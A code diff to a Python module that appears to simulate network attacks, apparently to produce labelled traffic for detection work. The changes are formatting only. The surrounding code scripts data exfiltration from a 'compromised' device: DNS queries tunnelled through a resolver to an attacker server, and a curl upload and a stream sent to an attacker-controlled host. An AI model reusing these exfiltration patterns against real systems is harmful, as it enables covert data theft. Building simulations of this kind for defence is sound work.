@@ -35,8 +35,8 @@ def dns_direct(scene):
 def dns_by_resolver(scene):
     device, dice = covert.compromised(scene, QUIET), scene.dice
     server, resolver = scene.plan["attacker"], scene.host("services")
-    zone, kind = network.stranger(scene.plan), dice.choice((dns_packets.TXT, dns_packets.CNAME, dns_packets.A,
-                                                            dns_packets.MX))
+    zone = network.stranger(scene.plan)
+    kind = dice.choice((dns_packets.TXT, dns_packets.CNAME, dns_packets.A, dns_packets.MX))
     with dns_packets.serving(scene, server, server.address, dice.randint(4, 180)):
         with (scene.attack(device.address, resolver.address, 17, 53),
               scene.attack(resolver.address, server.address, 17, 53)):
@@ -90,8 +90,8 @@ def upload(scene):
     def answer(connection):
         if covert.whole_request(connection):
             connection.sendall(b"HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n")
-    with talk.serving(scene, server, port, answer), talk.blamed(scene, [device.address], server.address, port,
-                                                                tail=4):
+    with (talk.serving(scene, server, port, answer),
+          talk.blamed(scene, [device.address], server.address, port, tail=4)):
         scene.run(device, "curl", "-s", "-H", "Expect:", "--limit-rate", speed, *how,
                   f"http://{server.address}:{port}/{talk.words(dice, 1)[0]}", seconds=2.5 * scene.seconds)
 
@@ -120,8 +120,8 @@ def stream(scene):
                     if not kept and dice.random() < 0.2:
                         break
                 time.sleep(0.1)
-    with talk.serving(scene, server, port, answer), talk.blamed(scene, [device.address], server.address, port,
-                                                                tail=4):
+    with (talk.serving(scene, server, port, answer),
+          talk.blamed(scene, [device.address], server.address, port, tail=4)):
         talk.crew(scene, device, [0], work)
 
 
